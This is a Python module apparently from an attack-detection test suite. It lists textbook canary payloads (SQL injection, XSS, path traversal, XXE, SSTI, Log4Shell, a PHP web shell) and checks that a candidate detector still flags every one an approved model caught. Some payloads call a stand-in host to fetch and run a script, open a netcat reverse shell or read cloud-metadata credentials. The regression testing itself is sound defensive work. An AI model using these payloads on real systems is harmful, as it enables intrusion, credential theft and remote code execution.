"""Attacks that must stay found whatever a site's people say: one or more of each family, as they stand in textbooks."""

from ..dataset import Dataset
from .fitting import of_values

CANARIES = (
    ("sqli", "1' OR '1'='1' -- "), ("sqli", "1 UNION SELECT username, password FROM users--"), ("sqli", "1; DROP TABLE users--"),
    ("sqli", "1 AND SLEEP(5)"), ("sqli", "' AND extractvalue(1, concat(0x7e, (select version())))-- "),
    ("xss", "<script>alert(document.cookie)</script>"), ("xss", "<img src=x onerror=alert(1)>"), ("xss", "javascript:alert(1)//"),
    ("xss", "\"><svg/onload=alert(1)>"), ("cmdi", "; cat /etc/passwd"), ("cmdi", "$(wget http://203.0.113.9/x.sh -O- | sh)"), ("cmdi", "| nc -e /bin/sh 203.0.113.9 4444"),
    ("path-traversal", "../../../../etc/passwd"), ("path-traversal", "..\\..\\..\\windows\\win.ini"), ("xxe", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"),
    ("ssti", "{{7*7}}{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"), ("nosqli", "{\"$where\": \"sleep(5000)\"}"),
    ("ldapi", "*)(uid=*))(|(uid=*"), ("ssrf", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"), ("log4shell", "${jndi:ldap://203.0.113.9:1389/a}"),
    ("shellshock", "() { :; }; /bin/bash -c id"), ("php", "<?php system($_GET['c']); ?>"), ("java", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("rfi", "http://203.0.113.9/shell.txt?"),
)


def dataset() -> Dataset:
    """Each as a request of one value."""
    return of_values([(family, text.encode(), 1) for family, text in CANARIES], "canary")


def missed(before: "list[bool]", after: "list[bool]") -> "list[str]":
    """Those that the approved model finds and the candidate does not."""
    return [f"{family} {text!r}" for (family, text), was, is_ in zip(CANARIES, before, after) if was and not is_]
